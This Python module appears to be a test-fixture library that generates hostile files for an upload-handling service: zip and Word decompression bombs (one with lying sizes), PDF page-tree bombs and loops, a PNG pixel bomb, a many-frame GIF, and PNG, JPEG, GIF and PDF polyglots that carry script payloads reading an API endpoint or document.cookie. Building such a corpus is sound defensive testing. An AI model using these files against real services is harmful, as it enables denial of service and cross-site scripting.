"""A corpus of hostile files, generated (no binary fixtures): each small on the wire, costly if trusted.

Every builder is cheap to run: the bombs are made of repeated self-contained deflate blocks, so a
gigabyte of inflated output costs one megabyte of compression here.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

MiB = 1024 * 1024
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)


@dataclass(frozen=True)
class Member:
    name: str
    compressed: bytes
    crc: int
    size: int  # what the archive declares; a lying archive declares less than it inflates to
    method: int = zlib.DEFLATED


def deflated_repeats(block: bytes, times: int, *, head: bytes = b"", tail: bytes = b"") -> tuple[bytes, int, int]:
    """Raw deflate of head + block*times + tail, its CRC-32 and size, compressing `block` once."""
    parts = []
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts.append(compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH))
    # After a full flush the compressor keeps no history: the same input gives the same bytes.
    one = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    parts.append(one * times)
    parts.append(compressor.compress(tail) + compressor.flush())
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    return b"".join(parts), crc, len(head) + len(block) * times + len(tail)


def member(name: str, data: bytes) -> Member:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Member(name, compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data))


def zip_archive(members: list[Member]) -> bytes:
    """A zip archive written by hand, so its declared sizes can be anything."""
    out = io.BytesIO()
    central = []
    for item in members:
        offset = out.tell()
        name = item.name.encode()
        header = struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            0,
            item.method,
            0,
            0x21,
            item.crc,
            len(item.compressed),
            item.size,
            len(name),
            0,
        )
        out.write(header + name + item.compressed)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50, 20, 20, 0, item.method, 0, 0x21, item.crc, len(item.compressed), item.size,
                len(name), 0, 0, 0, 0, 0, offset,
            )
            + name
        )  # fmt: skip
    start = out.tell()
    directory = b"".join(central)
    out.write(directory)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), start, 0))
    return out.getvalue()


def docx_with(document: Member) -> bytes:
    return zip_archive([member("[Content_Types].xml", CONTENT_TYPES), member("_rels/.rels", RELS), document])


def _document_xml_bomb(block: bytes, times: int, *, declared: int | None = None) -> bytes:
    head = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W_NS}"><w:body>'.encode()
    compressed, crc, size = deflated_repeats(block, times, head=head, tail=b"</w:body></w:document>")
    return docx_with(Member("word/document.xml", compressed, crc, size if declared is None else declared))


@cache
def docx_zip_bomb_lying_sizes() -> bytes:
    """word/document.xml declares 1 KB and inflates to 1 GiB (the issue's first case, scaled down from 1.9 GB)."""
    return _document_xml_bomb(b"<w:p><w:r><w:t>" + b" " * (MiB - 32) + b"</w:t></w:r></w:p>", 1024, declared=1024)


@cache
def docx_zip_bomb_honest_sizes() -> bytes:
    """The same gigabyte, its size declared honestly."""
    return _document_xml_bomb(b"<w:p><w:r><w:t>" + b" " * (MiB - 32) + b"</w:t></w:r></w:p>", 1024)


@cache
def docx_paragraph_bomb() -> bytes:
    """A few KB that unpack to 10 MB of empty paragraphs: 1.7 million XML elements (the issue's second case)."""
    return _document_xml_bomb(b"<w:p/>" * 1024, 1700)


def pdf_document(objects: list[bytes]) -> bytes:
    """A PDF whose objects are numbered from 1 in order, with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def pdf_page_tree_bomb(depth: int = 7, fan_out: int = 10) -> bytes:
    """A page tree of `depth` levels, each node's /Kids the same child `fan_out` times: fan_out**depth pages."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = 2 + level
        kids = b" ".join([f"{number + 1} 0 R".encode()] * fan_out)
        parent = f" /Parent {number - 1} 0 R".encode() if level else b""
        count = fan_out ** (depth - level)
        objects.append(b"<< /Type /Pages /Kids [" + kids + b"] /Count " + str(count).encode() + parent + b" >>")
    objects.append(f"<< /Type /Page /Parent {depth + 1} 0 R /MediaBox [0 0 10 10] >>".encode())
    return pdf_document(objects)


def pdf_page_tree_loop() -> bytes:
    """A page tree whose node lists itself among its kids."""
    return pdf_document(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"]
    )  # fmt: skip


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_zeros(width: int, height: int, *, color_type: int = 2, extra_chunks: bytes = b"") -> bytes:
    """A black PNG of width x height pixels (RGB by default), compressed row by row: megabytes for gigapixels."""
    channels = {0: 1, 2: 3, 6: 4}[color_type]
    row = b"\x00" * (1 + width * channels)  # filter byte 0, then the pixels
    compressed, _, _ = deflated_repeats(row, height)
    idat = zlib.compress(b"")[:2] + compressed  # a zlib header before the raw deflate data
    idat += struct.pack(">I", _adler_of_repeats(row, height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + extra_chunks
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def _adler_of_repeats(block: bytes, times: int) -> int:
    value = 1
    for _ in range(times):
        value = zlib.adler32(block, value)
    return value


@cache
def png_decompression_bomb() -> bytes:
    """12000 x 12000 black pixels in a few hundred KB (the issue's fourth case): 432 MB as RGB."""
    return png_of_zeros(12000, 12000)


@cache
def png_at_the_pixel_budget() -> bytes:
    """6000 x 6000 RGB (36 Mpx), just under the default IMAGE_MAX_PIXELS: accepted, and a worker must cope."""
    return png_of_zeros(6000, 6000)


def png_with_html() -> bytes:
    """A valid PNG carrying an HTML page in a text chunk: a polyglot a sniffing browser would run."""
    html = (
        b"Comment\x00<html><body><script>fetch('/api/inventory/').then(r=>r.text()).then(alert)</script></body></html>"
    )
    return png_of_zeros(8, 8, extra_chunks=_png_chunk(b"tEXt", html))


def jpeg(width: int = 640, height: int = 480) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (120, 80, 40)).save(buffer, "JPEG", quality=90)
    return buffer.getvalue()


def truncated_jpeg() -> bytes:
    data = jpeg()
    return data[: len(data) // 2]


def jpeg_markers_then_html() -> bytes:
    """A JPEG's first markers (SOI, APP0/JFIF) followed by an HTML page."""
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + b"<html><script>alert(1)</script></html>"
    )


@cache
def gif_with_thousands_of_frames(frames: int = 3000) -> bytes:
    from PIL import Image

    palette = [0, 0, 0, 255, 255, 255]
    black, white = Image.new("P", (64, 64), 0), Image.new("P", (64, 64), 1)
    for frame in (black, white):
        frame.putpalette(palette)
    buffer = io.BytesIO()
    rest = [white if index % 2 == 0 else black for index in range(frames - 1)]
    black.save(buffer, "GIF", save_all=True, append_images=rest, duration=10, loop=0)
    return buffer.getvalue()


def gif_javascript_polyglot() -> bytes:
    """`GIF89a/*...*/=alert(1)//`: a GIF header that is also a script."""
    return b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=alert(document.domain)//;" + b"\x00" * 16


def plain_zip_bomb() -> bytes:
    """A zip (no Word parts) inflating to 1 GiB."""
    compressed, crc, size = deflated_repeats(b"\x00" * MiB, 1024)
    return zip_archive([Member("zeros.bin", compressed, crc, size)])


def pdf_html_polyglot() -> bytes:
    return b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"


Builder = Callable[[], bytes]
